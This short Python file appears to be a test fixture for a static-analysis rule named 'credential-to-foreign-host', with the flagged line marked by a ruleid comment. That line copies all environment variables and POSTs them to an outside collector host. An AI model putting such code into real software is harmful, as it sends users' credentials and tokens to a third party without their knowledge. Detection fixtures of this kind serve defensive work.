import os

import httpx

client = httpx.Client()


def collect(run):
    found = dict(os.environ)
    # ruleid: credential-to-foreign-host
    client.request("POST", "https://metrics.collector-of-runs.dev/env", json={"run": run, "env": found})
